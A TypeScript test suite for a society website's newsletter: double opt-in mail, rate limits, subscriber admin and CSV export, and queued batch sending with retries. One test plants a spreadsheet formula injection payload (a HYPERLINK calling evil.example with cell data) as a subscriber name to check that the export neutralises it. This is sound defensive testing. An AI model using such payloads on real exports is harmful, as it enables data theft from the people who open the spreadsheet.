import { DEFAULT_SITE_SETTINGS } from '@lss/shared/settings';
import { eq, sql } from 'drizzle-orm';
import type { ParsedMail } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../app.ts';
import { newsletterDeliveries, newsletterSubscribers } from '../../db/schema/index.ts';
import { type SmtpSink, startSmtpSink } from '../../testing/smtp-sink.ts';
import { bearer, createTestApp, type TestApp } from '../../testing/test-app.ts';

// decisions.md, Community → Newsletter: double opt-in through a real SMTP server, the admin list,
// and posts sent through the queue in the database (batches, retries, restarts), on PGlite and PostgreSQL.

const SENT = 'Check your inbox: we sent you a link to confirm your subscription.';
let ip = 0;
const nextIp = () => `10.9.${Math.floor(++ip / 250)}.${ip % 250}`;

const mailsTo = (sink: SmtpSink, address: string) =>
  sink.received.filter((mail) => mail.to && !Array.isArray(mail.to) && mail.to.value[0]?.address === address);

async function waitForMails(sink: SmtpSink, address: string, count: number): Promise<ParsedMail[]> {
  const deadline = Date.now() + 5_000;
  while (mailsTo(sink, address).length < count) {
    if (Date.now() > deadline) throw new Error(`expected ${count} e-mail(s) to ${address}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return mailsTo(sink, address);
}
const settle = () => new Promise((resolve) => setTimeout(resolve, 300));

const header = (mail: ParsedMail, name: string) =>
  mail.headerLines
    .find((line) => line.key === name)
    ?.line.replace(/^[^:]+:\s*/, '')
    .replace(/\r?\n\s+/g, ' ');
const confirmToken = (mail: ParsedMail) => /\/newsletter\/confirm\?token=([\w-]+)/.exec(mail.text ?? '')![1]!;
const unsubscribeUrl = (mail: ParsedMail) => /^<(.+)>$/.exec(header(mail, 'list-unsubscribe') ?? '')![1]!;

function subscribe(t: TestApp, email: string, name?: string, from = nextIp()) {
  return t.app.inject({
    method: 'POST',
    url: '/api/newsletter/subscribers',
    headers: { 'x-forwarded-for': from },
    payload: { email, ...(name === undefined ? {} : { name }) },
  });
}

async function confirmedSubscriber(t: TestApp, sink: SmtpSink, email: string) {
  expect((await subscribe(t, email)).statusCode).toBe(202);
  const [mail] = await waitForMails(sink, email, 1);
  const confirm = await t.app.inject({
    method: 'POST',
    url: '/api/newsletter/confirm',
    payload: { token: confirmToken(mail!) },
  });
  expect(confirm.statusCode).toBe(200);
}

async function publishedPost(t: TestApp, token: string, title: string) {
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/posts',
    headers: bearer(token),
    payload: {
      title,
      slug: title.toLowerCase().replace(/\W+/g, '-'),
      status: 'published',
      contentBody: `<p>The first words of ${title}, & more.</p><p>${'Long reasoning. '.repeat(40)}</p>`,
    },
  });
  expect(response.statusCode).toBe(201);
  return response.json()._id as string;
}

function sendPost(t: TestApp, token: string, postId: string) {
  return t.app.inject({ method: 'POST', url: `/api/posts/${postId}/newsletter`, headers: bearer(token) });
}
const sends = async (t: TestApp, token: string) =>
  (await t.app.inject({ method: 'GET', url: '/api/newsletter/sends', headers: bearer(token) })).json();

describe('newsletter', () => {
  let sink: SmtpSink;
  let t: TestApp;
  let token: string;
  const rejected = new Map<string, number>();

  beforeAll(async () => {
    // Refuses an address as many times as the map says (Infinity: always).
    sink = await startSmtpSink({
      rejectRecipient(address) {
        const left = rejected.get(address) ?? 0;
        if (left > 0) rejected.set(address, left - 1);
        return left > 0;
      },
    });
    t = await createTestApp({
      TRUST_PROXY: 'loopback',
      SMTP_URL: sink.url,
      MAIL_FROM: 'LSS <web@lss.test>',
      PUBLIC_URL: 'https://lss.test',
      NEWSLETTER_BATCH_SIZE: '2',
    });
    // The tests below drive the queue batch by batch; the last one lets it run by itself.
    await t.app.services.newsletter.sender.stop();
    token = await t.adminToken();
  });
  afterAll(async () => {
    await t.close();
    await sink.stop();
  });

  it('answers 202 alike for new, pending and confirmed addresses; the e-mailed link confirms once', async () => {
    const first = await subscribe(t, 'Ada@Student.test', 'Ada Obi');
    expect(first.statusCode).toBe(202);
    expect(first.json()).toEqual({ message: SENT });

    const [mail] = await waitForMails(sink, 'ada@student.test', 1);
    expect(mail!.subject).toBe(`Confirm your subscription · ${DEFAULT_SITE_SETTINGS.societyName}`);
    expect(mail!.from?.value).toEqual([{ name: 'LSS', address: 'web@lss.test' }]);
    expect(mail!.text).toContain('https://lss.test/newsletter/confirm?token=');
    expect(String(mail!.html)).toContain('Confirm my subscription');
    const pending = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers?q=ada',
      headers: bearer(token),
    });
    expect(pending.json()).toMatchObject([{ email: 'ada@student.test', name: 'Ada Obi', status: 'pending' }]);

    const body = { token: confirmToken(mail!) };
    const confirmed = await t.app.inject({ method: 'POST', url: '/api/newsletter/confirm', payload: body });
    expect(confirmed.statusCode).toBe(200);
    expect(confirmed.json()).toEqual({ message: 'Your subscription is confirmed. Thank you!' });
    const again = await t.app.inject({ method: 'POST', url: '/api/newsletter/confirm', payload: body });
    expect(again.statusCode).toBe(400);
    expect(again.json().message).toBe('This confirmation link is invalid or has already been used.');

    // A confirmed address asking again: the same answer, and no e-mail.
    const known = await subscribe(t, 'ada@student.test');
    expect(known.statusCode).toBe(202);
    expect(known.json()).toEqual(first.json());
    await settle();
    expect(mailsTo(sink, 'ada@student.test')).toHaveLength(1);
  });

  it("takes the subscribe box's plain form before the page's JavaScript runs", async () => {
    const form = (payload: string) =>
      t.app.inject({
        method: 'POST',
        url: '/newsletter/subscribe',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': nextIp() },
        payload,
      });
    const sent = await form('email=Form%40Student.test&name=Form+Reader');
    expect(sent.statusCode).toBe(303);
    expect(sent.headers.location).toBe('/newsletter/confirm?sent=1');
    const [mail] = await waitForMails(sink, 'form@student.test', 1);
    expect(mail!.subject).toContain('Confirm your subscription');
    const invalid = await form('email=nobody&name=');
    expect(invalid.statusCode).toBe(303);
    expect(invalid.headers.location).toBe('/newsletter/confirm?invalid=1');
  });

  it("refuses a bad e-mail with 400, and limits one e-mail's requests per client address and e-mails per address", async () => {
    const bad = await subscribe(t, 'not-an-email');
    expect(bad.statusCode).toBe(400);
    expect(bad.json().errors).toEqual({ email: 'Enter a valid email address.' });

    // However often one address is asked for (from anywhere), it receives 3 confirmations an hour.
    for (let i = 0; i < 5; i += 1) expect((await subscribe(t, 'flood@student.test')).statusCode).toBe(202);
    await waitForMails(sink, 'flood@student.test', 3);
    await settle();
    expect(mailsTo(sink, 'flood@student.test')).toHaveLength(3);

    // One client address asking for one e-mail: 5 requests in 10 minutes, then 429. Other e-mails
    // from the same address go through: a campus shows many readers as one address (issue 23;
    // the ceiling per address: public-form-limits.test.ts).
    const from = nextIp();
    for (let i = 0; i < 5; i += 1)
      expect((await subscribe(t, 'r0@student.test', '', from)).statusCode).toBe(202);
    const limited = await subscribe(t, 'r0@student.test', '', from);
    expect(limited.statusCode).toBe(429);
    expect(limited.headers['retry-after']).toBeDefined();
    for (let i = 1; i < 7; i += 1)
      expect((await subscribe(t, `r${i}@student.test`, '', from)).statusCode).toBe(202);
  });

  it('lists, searches, filters, exports as CSV and removes subscribers (editors and up only)', async () => {
    await confirmedSubscriber(t, sink, 'list-one@student.test');
    expect((await subscribe(t, 'list-two@student.test', 'Chidi, "the" Reader')).statusCode).toBe(202);
    await waitForMails(sink, 'list-two@student.test', 1);

    const anonymous = await t.app.inject({ method: 'GET', url: '/api/newsletter/subscribers' });
    expect(anonymous.statusCode).toBe(401);

    const search = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers?q=LIST-&status=confirmed',
      headers: bearer(token),
    });
    expect(search.json().map((s: { email: string }) => s.email)).toEqual(['list-one@student.test']);
    expect(search.headers['x-total-count']).toBe('1');
    const badStatus = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers?status=gone',
      headers: bearer(token),
    });
    expect(badStatus.statusCode).toBe(400);
    expect(badStatus.json().errors).toEqual({ status: 'Status must be pending, confirmed or unsubscribed.' });

    const csv = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers.csv?q=list-',
      headers: bearer(token),
    });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="subscribers.csv"');
    // The one CSV writer (lib/csv.ts): a BOM for Excel, CRLF rows.
    expect(csv.body.startsWith('\uFEFF')).toBe(true);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe('Email,Name,Status,Subscribed,Confirmed,Unsubscribed');
    expect(lines[1]).toMatch(/^list-one@student\.test,,confirmed,\d{4}-/);
    expect(lines[2]).toMatch(/^list-two@student\.test,"Chidi, ""the"" Reader",pending,/);

    const [two] = (
      await t.app.inject({
        method: 'GET',
        url: '/api/newsletter/subscribers?q=list-two',
        headers: bearer(token),
      })
    ).json();
    const removed = await t.app.inject({
      method: 'DELETE',
      url: `/api/newsletter/subscribers/${two._id}`,
      headers: bearer(token),
    });
    expect(removed.json()).toEqual({ message: 'Subscriber removed.' });
    const gone = await t.app.inject({
      method: 'DELETE',
      url: `/api/newsletter/subscribers/${two._id}`,
      headers: bearer(token),
    });
    expect(gone.statusCode).toBe(404);
  });

  it('sorts subscribers by e-mail, name, status and date either way, searched, filtered and paged at once', async () => {
    const day = (n: number) => new Date(Date.UTC(2026, 0, n));
    await t.app.services.database.db.insert(newsletterSubscribers).values(
      (
        [
          ['sorted-c@student.test', 'beta', 'confirmed', 1],
          ['Sorted-A@student.test', 'Gamma', 'pending', 2],
          ['sorted-b@student.test', 'Alpha', 'unsubscribed', 3],
        ] as const
      ).map(([email, name, status, n]) => ({
        email,
        name,
        status,
        createdAt: day(n),
        unsubscribeToken: `sorted-${n}`,
      })),
    );
    const emails = async (query: string) => {
      const response = await t.app.inject({
        method: 'GET',
        url: `/api/newsletter/subscribers?q=sorted-${query}`,
        headers: bearer(token),
      });
      expect(response.statusCode, response.body).toBe(200);
      return response.json().map((s: { email: string }) => s.email);
    };
    const [a, b, c] = ['Sorted-A@student.test', 'sorted-b@student.test', 'sorted-c@student.test'];
    expect(await emails('')).toEqual([b, a, c]);
    expect(await emails('&sort=email')).toEqual([a, b, c]);
    expect(await emails('&sort=-email')).toEqual([c, b, a]);
    expect(await emails('&sort=name')).toEqual([b, c, a]);
    expect(await emails('&sort=-name')).toEqual([a, c, b]);
    expect(await emails('&sort=status')).toEqual([c, a, b]);
    expect(await emails('&sort=-status')).toEqual([b, a, c]);
    expect(await emails('&sort=since')).toEqual([c, a, b]);
    expect(await emails('&sort=-since')).toEqual([b, a, c]);
    expect(await emails('&status=pending&sort=-email')).toEqual([a]);

    const second = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers?q=sorted-&sort=email&limit=2&page=2',
      headers: bearer(token),
    });
    expect(second.json().map((s: { email: string }) => s.email)).toEqual([c]);
    expect(second.headers['x-total-count']).toBe('3');
    expect(second.headers.link).toBe(
      '</api/newsletter/subscribers?q=sorted-&sort=email&limit=2&page=1>; rel="prev"',
    );

    const badSort = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers?sort=token',
      headers: bearer(token),
    });
    expect(badSort.statusCode).toBe(400);
    expect(badSort.json().errors).toEqual({
      sort: 'Sort must be one of email, name, status, since, each optionally preceded by - for descending order.',
    });
    // The export follows the search and the status filter, in the order subscribers came.
    const csv = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers.csv?q=SORTED-&status=confirmed',
      headers: bearer(token),
    });
    expect(
      csv.body
        .trim()
        .split('\n')
        .slice(1)
        .map((line) => line.split(',')[0]),
    ).toEqual([c]);
  });

  it("confirms only when the confirmation page's button is pressed (a plain form), never on opening the link", async () => {
    const email = 'noscript-reader@student.test';
    expect((await subscribe(t, email)).statusCode).toBe(202);
    const [mail] = await waitForMails(sink, email, 1);
    const link = confirmToken(mail!);
    const status = async () =>
      (
        await t.app.inject({
          method: 'GET',
          url: `/api/newsletter/subscribers?q=${encodeURIComponent(email)}`,
          headers: bearer(token),
        })
      ).json()[0].status;
    // What a mail scanner does: open the link, follow nothing.
    const opened = await t.app.inject({ method: 'GET', url: `/newsletter/confirm?token=${link}` });
    expect(opened.statusCode).toBeLessThan(500);
    expect(await status()).toBe('pending');

    const pressed = await t.app.inject({
      method: 'POST',
      url: `/newsletter/confirm?token=${link}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ token: link }).toString(),
    });
    expect(pressed.statusCode).toBe(303);
    expect(pressed.headers.location).toBe('/newsletter/confirm?confirmed=1');
    expect(await status()).toBe('confirmed');

    const again = await t.app.inject({
      method: 'POST',
      url: '/newsletter/confirm',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ token: link }).toString(),
    });
    expect(again.headers.location).toBe('/newsletter/confirm?failed=1');
    const empty = await t.app.inject({
      method: 'POST',
      url: '/newsletter/confirm',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: '',
    });
    expect(empty.headers.location).toBe('/newsletter/confirm?failed=1');
  });

  it('exports a subscriber whose name is a spreadsheet formula as inert text', async () => {
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
    const leads = ['+SUM(1;2)', '-2+3', '@cmd'];
    // The 202 comes before the work: once its confirmation e-mail has gone, each is stored. One after
    // the other, so the export's order (by when each was stored) is the order they subscribed in.
    const names = [formula, ...leads];
    for (const [i, name] of names.entries()) {
      expect((await subscribe(t, `formula-${i + 1}@student.test`, name)).statusCode).toBe(202);
      await waitForMails(sink, `formula-${i + 1}@student.test`, 1);
    }
    const csv = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/subscribers.csv?q=formula-',
      headers: bearer(token),
    });
    expect(csv.statusCode).toBe(200);
    const rows = csv.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
      .slice(1);
    expect(rows[0]).toMatch(
      /^formula-1@student\.test,"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1,""click""\)",pending,/,
    );
    expect(rows.slice(1).map((row) => row.split(',')[1])).toEqual(leads.map((lead) => `'${lead}`));
  });

  it('answers 404, not 500, for a post address that is no id', async () => {
    for (const method of ['GET', 'POST'] as const) {
      const response = await t.app.inject({
        method,
        url: '/api/posts/%3Csvg%3E/newsletter',
        headers: bearer(token),
      });
      expect(response.statusCode, method).toBe(404);
      expect(response.json()).toEqual({ message: 'Post not found.' });
    }
  });

  it('sends a published post once, in batches, with List-Unsubscribe and one-click unsubscribe', async () => {
    const readers = ['n1@student.test', 'n2@student.test', 'n3@student.test'];
    for (const reader of readers) await confirmedSubscriber(t, sink, reader);
    const confirmedCount = (
      await t.app.inject({
        method: 'GET',
        url: '/api/newsletter/subscribers?status=confirmed',
        headers: bearer(token),
      })
    ).headers['x-total-count'];

    const draft = await t.app.inject({
      method: 'POST',
      url: '/api/posts',
      headers: bearer(token),
      payload: { title: 'Draft only', slug: 'draft-only' },
    });
    const refused = await sendPost(t, token, draft.json()._id);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe('Only a published post can be sent as a newsletter.');

    const postId = await publishedPost(t, token, 'Moot Court Final');
    const preview = await t.app.inject({
      method: 'GET',
      url: `/api/posts/${postId}/newsletter`,
      headers: bearer(token),
    });
    expect(preview.json()).toEqual({ recipients: Number(confirmedCount), alreadySent: false });

    const queued = await sendPost(t, token, postId);
    expect(queued.statusCode).toBe(202);
    const recipients = Number(confirmedCount);
    expect(queued.json()).toEqual({
      message: `Newsletter queued for ${recipients} subscribers.`,
      recipients,
    });
    const twice = await sendPost(t, token, postId);
    expect(twice.statusCode).toBe(409);
    expect(twice.json().message).toBe('This post has already been sent as a newsletter.');

    // One batch is NEWSLETTER_BATCH_SIZE (2) e-mails; the progress says so.
    const before = sink.received.length;
    expect(await t.app.services.newsletter.sender.runBatch()).toBe(2);
    await sink.waitFor(before + 2);
    expect((await sends(t, token))[0]).toMatchObject({
      postId,
      postTitle: 'Moot Court Final',
      queued: recipients - 2,
      sent: 2,
      failed: 0,
    });
    while ((await t.app.services.newsletter.sender.runBatch()) > 0);
    expect((await sends(t, token))[0]).toMatchObject({ queued: 0, sent: recipients, failed: 0 });

    const [mail] = mailsTo(sink, 'n1@student.test').filter((m) => m.subject === 'Moot Court Final');
    expect(mail).toBeDefined();
    expect(mail!.text).toContain('The first words of Moot Court Final, & more.');
    expect(mail!.text).toContain('https://lss.test/news/moot-court-final');
    expect(String(mail!.html)).toContain('The first words of Moot Court Final, &amp; more.');
    expect(String(mail!.html)).toContain('href="https://lss.test/news/moot-court-final"');
    expect(header(mail!, 'list-unsubscribe-post')).toBe('List-Unsubscribe=One-Click');
    const url = unsubscribeUrl(mail!);
    expect(url).toMatch(/^https:\/\/lss\.test\/newsletter\/unsubscribe\?token=[\w-]+$/);
    expect(String(mail!.html)).toContain(url);
    // Nobody got it twice; pending and removed addresses not at all.
    for (const reader of readers) {
      expect(mailsTo(sink, reader).filter((m) => m.subject === 'Moot Court Final')).toHaveLength(1);
    }
    expect(sink.received.filter((m) => m.subject === 'Moot Court Final')).toHaveLength(recipients);

    // The unsubscribe page knows the address; the mail client's one-click POST unsubscribes.
    const path = url.replace('https://lss.test', '');
    const tokenParam = new URL(url).searchParams.get('token')!;
    const status = async () =>
      (await t.app.inject({ method: 'GET', url: `/api/newsletter/unsubscribe?token=${tokenParam}` })).json();
    const postForm = (url: string, payload: string) =>
      t.app.inject({
        method: 'POST',
        url,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        payload,
      });
    expect(await status()).toEqual({ email: 'n1@student.test', status: 'confirmed' });
    const oneClick = await postForm(path, 'List-Unsubscribe=One-Click');
    expect(oneClick.statusCode).toBe(200);
    expect(await status()).toEqual({ email: 'n1@student.test', status: 'unsubscribed' });
    // The page's own button (a plain form) comes back to the page.
    const button = await postForm(path, '');
    expect(button.statusCode).toBe(303);
    expect(button.headers.location).toBe(path);
    const unknown = await postForm('/newsletter/unsubscribe?token=nope', 'List-Unsubscribe=One-Click');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json().message).toBe('This unsubscribe link is invalid.');

    // The next post no longer goes to the address that left.
    const next = await publishedPost(t, token, 'Dinner Seats');
    expect((await sendPost(t, token, next)).json().recipients).toBe(recipients - 1);
    while ((await t.app.services.newsletter.sender.runBatch()) > 0);
    expect(mailsTo(sink, 'n1@student.test').filter((m) => m.subject === 'Dinner Seats')).toHaveLength(0);
  });

  it('retries a refused e-mail a few times, then counts it failed', async () => {
    await confirmedSubscriber(t, sink, 'flaky@student.test');
    await confirmedSubscriber(t, sink, 'bounce@student.test');
    rejected.set('flaky@student.test', 2);
    rejected.set('bounce@student.test', Number.POSITIVE_INFINITY);
    const postId = await publishedPost(t, token, 'Retry Post');
    const recipients = (await sendPost(t, token, postId)).json().recipients as number;

    // Later attempts wait a minute, then two: the clock of each batch moves past them.
    let clock = Date.now();
    for (let round = 0; round < 4; round += 1) {
      while ((await t.app.services.newsletter.sender.runBatch(new Date(clock))) > 0);
      clock += 3 * 60_000;
    }
    expect((await sends(t, token))[0]).toMatchObject({
      postTitle: 'Retry Post',
      queued: 0,
      sent: recipients - 1,
      failed: 1,
    });
    expect(mailsTo(sink, 'flaky@student.test').filter((m) => m.subject === 'Retry Post')).toHaveLength(1);
    expect(mailsTo(sink, 'bounce@student.test').filter((m) => m.subject === 'Retry Post')).toHaveLength(0);
    const [bounce] = await t.database.db
      .select()
      .from(newsletterDeliveries)
      .where(eq(newsletterDeliveries.email, 'bounce@student.test'));
    expect(bounce).toMatchObject({ status: 'failed', attempts: 3 });
    rejected.clear();
  });

  it('survives a restart and a second instance without sending anyone the same post twice', async () => {
    const postId = await publishedPost(t, token, 'Restart Post');
    const recipients = (await sendPost(t, token, postId)).json().recipients as number;
    expect(await t.app.services.newsletter.sender.runBatch()).toBe(2);

    // The instance stops mid-batch: two deliveries were claimed, perhaps sent, never marked.
    const crashed = await t.database.db
      .update(newsletterDeliveries)
      .set({ status: 'sending', claimedUntil: new Date(Date.now() - 1000), attempts: 1 })
      .where(
        sql`${newsletterDeliveries.id} in (select id from ${newsletterDeliveries} where status = 'queued' order by id limit 2)`,
      )
      .returning();
    expect(crashed).toHaveLength(2);

    // A restarted instance and a second one share the database and work through the rest at once.
    const restarted = await buildApp({ config: t.config, database: t.database });
    const second = await buildApp({ config: t.config, database: t.database });
    try {
      const drain = async (app: typeof restarted) => {
        while ((await app.services.newsletter.sender.runBatch()) > 0);
      };
      await Promise.all([drain(restarted), drain(second)]);
    } finally {
      await restarted.close();
      await second.close();
    }
    const progress = (await sends(t, token)).find((s: { postId: string }) => s.postId === postId);
    expect(progress).toMatchObject({ queued: 0, sent: recipients - 2, failed: 2 });
    const received = sink.received.filter((m) => m.subject === 'Restart Post');
    expect(received).toHaveLength(recipients - 2);
    const addresses = received.map((m) => (Array.isArray(m.to) ? '' : m.to!.value[0]!.address));
    expect(new Set(addresses).size).toBe(addresses.length);
    for (const row of crashed) expect(addresses).not.toContain(row.email);
  });

  it('pages the sends like every list: X-Total-Count, Link, newest first', async () => {
    const all = await t.app.inject({ method: 'GET', url: '/api/newsletter/sends', headers: bearer(token) });
    const total = Number(all.headers['x-total-count']);
    expect(total).toBeGreaterThanOrEqual(3);
    expect(all.json()).toHaveLength(total);
    expect(all.headers.link).toBeUndefined();
    const titles = all.json().map((send: { postTitle: string }) => send.postTitle);

    const second = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/sends?limit=1&page=2',
      headers: bearer(token),
    });
    expect(second.json().map((send: { postTitle: string }) => send.postTitle)).toEqual([titles[1]]);
    expect(second.headers['x-total-count']).toBe(String(total));
    expect(second.headers.link).toBe(
      '</api/newsletter/sends?limit=1&page=3>; rel="next", </api/newsletter/sends?limit=1&page=1>; rel="prev"',
    );
    const bad = await t.app.inject({
      method: 'GET',
      url: '/api/newsletter/sends?limit=101',
      headers: bearer(token),
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().errors.limit).toBe('Limit is too large.');
  });

  it('works through the queue by itself while the app runs', async () => {
    t.app.services.newsletter.sender.start();
    const postId = await publishedPost(t, token, 'Automatic Post');
    const recipients = (await sendPost(t, token, postId)).json().recipients as number;
    const deadline = Date.now() + 10_000;
    while ((await sends(t, token))[0].sent < recipients && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect((await sends(t, token))[0]).toMatchObject({ postTitle: 'Automatic Post', sent: recipients });
    await t.app.services.newsletter.sender.stop();
  });
});

describe('newsletter without a mail server', () => {
  it('refuses to send a post (409) rather than queue it for nobody to deliver', async () => {
    const t = await createTestApp();
    try {
      const token = await t.adminToken();
      const postId = await publishedPost(t, token, 'No Mail');
      const response = await sendPost(t, token, postId);
      expect(response.statusCode).toBe(409);
      expect(response.json().message).toBe(
        'E-mail is not set up on this server (SMTP_URL), so newsletters cannot be sent.',
      );
    } finally {
      await t.close();
    }
  });
});
